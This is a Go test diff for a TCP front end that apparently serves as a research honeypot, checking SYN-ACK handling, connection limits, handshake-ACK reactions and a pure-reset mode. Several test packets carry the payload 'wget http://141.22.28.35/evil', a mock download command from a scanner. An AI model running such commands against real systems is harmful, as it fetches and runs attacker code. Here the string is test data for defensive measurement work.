@@ -193,9 +193,17 @@ func tcpOf(b []byte) header.TCP {
 func (h *harness) synAck(src, dst netip.Addr, sport, dport uint16, seq uint32) uint32 {
 	h.t.Helper()
 	h.inject(seg{src: src, dst: dst, sport: sport, dport: dport, seq: seq, flags: header.TCPFlagSyn, opts: mssOpt}.build())
-	b := h.read(time.Second)
-	if b == nil {
-		h.t.Fatalf("no SYN-ACK for SYN to %s:%d", dst, dport)
+	// Skip what earlier connections still send (the front end's ACK of a
+	// handshake, gVisor's segments).
+	var b []byte
+	for {
+		b = h.read(time.Second)
+		if b == nil {
+			h.t.Fatalf("no SYN-ACK for SYN to %s:%d", dst, dport)
+		}
+		if tcpOf(b).Flags()&header.TCPFlagSyn != 0 {
+			break
+		}
 	}
 	tc := tcpOf(b)
 	if got, want := tc.Flags(), header.TCPFlagSyn|header.TCPFlagAck; got != want {
@@ -376,6 +384,11 @@ func TestSYNRecords(t *testing.T) {
 // counted, and that a slot frees when a connection ends.
 func TestConnLimit(t *testing.T) {
 	block := make(chan struct{})
+	var once sync.Once
+	release := func() { once.Do(func() { close(block) }) }
+	// Before the stack's Close (registered by newHarness, so run after
+	// this): a failed test must not leave the handler blocked.
+	defer release()
 	h := newHarness(t, func(c *Config) {
 		c.MaxConns = 1
 		c.Handle = func(c net.Conn, f records.Flow) { <-block; c.(*Conn).Reset() }
@@ -389,7 +402,7 @@ func TestConnLimit(t *testing.T) {
 	if got := h.st.Stats().DropConnLimit.Load(); got != 1 {
 		t.Fatalf("DropConnLimit = %d, want 1", got)
 	}
-	close(block)
+	release()
 	waitFor(t, func() bool { return h.st.conns.len() == 0 })
 	h.inject(seg{src: scanner4, dst: dst, sport: 2222, dport: 80, seq: 21, ack: c2 + 1, flags: header.TCPFlagAck}.build())
 	waitFor(t, func() bool { return h.st.Stats().Accepted.Load() == 2 })
@@ -407,3 +420,158 @@ func waitFor(t *testing.T, cond func() bool) {
 }
 
 var _ = io.EOF
+
+// ackRecords returns the raw row of the last ACK (no SYN) recorded and the
+// reply rows of its user id.
+func (h *harness) ackRecords() (records.Packet, []records.Reply) {
+	h.t.Helper()
+	h.sink.mu.Lock()
+	defer h.sink.mu.Unlock()
+	var p records.Packet
+	found := false
+	for _, q := range h.sink.packets {
+		if q.Flags&records.FlagSYN == 0 && q.Flags&records.FlagACK != 0 {
+			p, found = q, true
+		}
+	}
+	if !found {
+		h.t.Fatal("no ACK recorded")
+	}
+	var rs []records.Reply
+	for _, r := range h.sink.replies {
+		if p.UserID != 0 && r.UserID == p.UserID {
+			rs = append(rs, r)
+		}
+	}
+	return p, rs
+}
+
+// TestHandshakeReaction checks the front end's own reaction to a
+// valid-cookie handshake ACK: a pure ACK of what it carried, written before
+// gVisor answers, and recorded as the ACK's reaction (tcp-ack) with one
+// reply row of the same user id, swapped addresses and the ACK's own time.
+func TestHandshakeReaction(t *testing.T) {
+	for _, tc := range []struct {
+		name     string
+		src, dst netip.Addr
+		ackOff   uint32 // the ACK acks cookie+ackOff
+		flags    header.TCPFlags
+		payload  string
+		wantAck  uint32 // relative to the client's ISN
+	}{
+		{"data, ack cookie+1", scanner4, netip.MustParseAddr("198.51.100.20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 30},
+		{"data, ack cookie (test-spoki)", scanner4, netip.MustParseAddr("198.51.100.21"), 0, header.TCPFlagAck | header.TCPFlagPsh, "wget http://141.22.28.35/evil", 30},
+		{"data and FIN", scanner4, netip.MustParseAddr("198.51.100.22"), 1, header.TCPFlagAck | header.TCPFlagFin, "bye", 5},
+		{"bare ACK", scanner4, netip.MustParseAddr("198.51.100.23"), 1, header.TCPFlagAck, "", 1},
+		{"ipv6", scanner6, netip.MustParseAddr("2001:db8:5b0::20"), 1, header.TCPFlagAck | header.TCPFlagPsh, "x", 2},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := newHarness(t, nil)
+			const isn = 1298130
+			cookie := h.synAck(tc.src, tc.dst, 41725, 42, isn)
+			h.inject(seg{src: tc.src, dst: tc.dst, sport: 41725, dport: 42, seq: isn + 1, ack: cookie + tc.ackOff,
+				flags: tc.flags, payload: []byte(tc.payload)}.build())
+			b := h.read(time.Second)
+			if b == nil {
+				t.Fatal("no answer to the handshake ACK")
+			}
+			a := tcpOf(b)
+			if a.Flags() != header.TCPFlagAck || a.SequenceNumber() != cookie+tc.ackOff || a.AckNumber() != isn+tc.wantAck ||
+				a.WindowSize() != reactWindow || int(a.DataOffset()) != header.TCPMinimumSize || len(a.Payload()) != 0 {
+				t.Errorf("first answer: flags %v seq %d ack %d win %d offset %d; want a pure ACK seq %d ack %d win %d, no options",
+					a.Flags(), a.SequenceNumber(), a.AckNumber(), a.WindowSize(), a.DataOffset(), cookie+tc.ackOff, isn+tc.wantAck, reactWindow)
+			}
+			waitFor(t, func() bool { return h.st.Stats().Accepted.Load() == 1 })
+			p, rs := h.ackRecords()
+			if !p.Probed || p.Method != records.MethodACK || p.UserID == 0 || p.ProbeSeq != cookie+tc.ackOff || p.ProbeAck != isn+tc.wantAck || p.NumProbes != 1 {
+				t.Errorf("ACK row: probed %v method %v uid %d probe anum %d snum %d n %d", p.Probed, p.Method, p.UserID, p.ProbeAck, p.ProbeSeq, p.NumProbes)
+			}
+			var reactions int
+			for _, r := range rs {
+				if r.Method == records.MethodACK {
+					reactions++
+					if r.Src != p.Dst || r.Dst != p.Src || r.SrcPort != p.DstPort || r.DstPort != p.SrcPort || !r.Time.Equal(p.Time) {
+						t.Errorf("reaction row %+v does not mirror the ACK row (time %v)", r, p.Time)
+					}
+				}
+			}
+			if reactions != 1 {
+				t.Errorf("%d tcp-ack reply rows for the ACK's user id, want 1: %+v", reactions, rs)
+			}
+		})
+	}
+}
+
+// TestSessionResetIsNotAReaction checks that the reset ending a session is
+// recorded as tcp-session-rst, a method no raw row is probed with.
+func TestSessionResetIsNotAReaction(t *testing.T) {
+	h := newHarness(t, nil)
+	dst := netip.MustParseAddr("198.51.100.24")
+	cookie := h.synAck(scanner4, dst, 40000, 42, 100)
+	h.inject(seg{src: scanner4, dst: dst, sport: 40000, dport: 42, seq: 101, ack: cookie + 1,
+		flags: header.TCPFlagAck | header.TCPFlagPsh, payload: []byte("x")}.build())
+	<-h.got // the harness's handler resets after its read
+	waitFor(t, func() bool {
+		_, rs := h.ackRecords()
+		for _, r := range rs {
+			if r.Method == records.MethodSessionRST {
+				return true
+			}
+		}
+		return false
+	})
+	h.sink.mu.Lock()
+	defer h.sink.mu.Unlock()
+	for _, p := range h.sink.packets {
+		if p.Method == records.MethodSession || p.Method == records.MethodSessionRST {
+			t.Errorf("raw row probed with %v", p.Method)
+		}
+	}
+}
+
+// TestPureReset checks pure Spoki mode: a handshake ACK with data to a pure
+// address is answered with a RST at once (seq = its ack, RST only),
+// recorded as tcp-rst with probe snum = its ack and one reply row, and
+// never becomes a connection; a bare handshake ACK there is accepted as
+// anywhere else, and addresses outside pure mode are unaffected.
+func TestPureReset(t *testing.T) {
+	pure := netip.MustParseAddr("198.51.100.30")
+	h := newHarness(t, func(c *Config) { c.Pure = func(a netip.Addr) bool { return a == pure } })
+	cookie := h.synAck(scanner4, pure, 41725, 42, 500)
+	h.inject(seg{src: scanner4, dst: pure, sport: 41725, dport: 42, seq: 501, ack: cookie + 1,
+		flags: header.TCPFlagAck | header.TCPFlagPsh, payload: []byte("wget http://141.22.28.35/evil")}.build())
+	b := h.read(time.Second)
+	if b == nil {
+		t.Fatal("no answer to the pure-mode ACK")
+	}
+	if a := tcpOf(b); a.Flags() != header.TCPFlagRst || a.SequenceNumber() != cookie+1 || a.AckNumber() != 0 {
+		t.Errorf("answer: flags %v seq %d ack %d, want RST seq %d ack 0", a.Flags(), a.SequenceNumber(), a.AckNumber(), cookie+1)
+	}
+	if b := h.read(300 * time.Millisecond); b != nil {
+		t.Errorf("a second packet after the RST: flags %v", tcpOf(b).Flags())
+	}
+	p, rs := h.ackRecords()
+	if !p.Probed || p.Method != records.MethodRST || p.ProbeSeq != cookie+1 || p.ProbeAck != 0 || p.UserID == 0 {
+		t.Errorf("ACK row: probed %v method %v uid %d probe anum %d snum %d", p.Probed, p.Method, p.UserID, p.ProbeAck, p.ProbeSeq)
+	}
+	if len(rs) != 1 || rs[0].Method != records.MethodRST || rs[0].Src != pure || rs[0].DstPort != 41725 || !rs[0].Time.Equal(p.Time) {
+		t.Errorf("reply rows of the ACK's user id = %+v, want one tcp-rst", rs)
+	}
+	s := h.st.Stats()
+	if s.PureResets.Load() != 1 || s.Handshakes.Load() != 0 || h.st.conns.len() != 0 {
+		t.Errorf("PureResets %d Handshakes %d open %d, want 1, 0, 0", s.PureResets.Load(), s.Handshakes.Load(), h.st.conns.len())
+	}
+
+	// A bare ACK to the pure address: an ordinary connection.
+	cookie = h.synAck(scanner4, pure, 41726, 42, 600)
+	h.inject(seg{src: scanner4, dst: pure, sport: 41726, dport: 42, seq: 601, ack: cookie + 1, flags: header.TCPFlagAck}.build())
+	if a := tcpOf(h.read(time.Second)); a.Flags() != header.TCPFlagAck {
+		t.Errorf("answer to a bare ACK: flags %v, want ACK", a.Flags())
+	}
+	if p, _ := h.ackRecords(); p.Method != records.MethodACK {
+		t.Errorf("bare ACK row method %v, want tcp-ack", p.Method)
+	}
+	if s.Handshakes.Load() != 1 {
+		t.Errorf("Handshakes = %d, want 1", s.Handshakes.Load())
+	}
+}
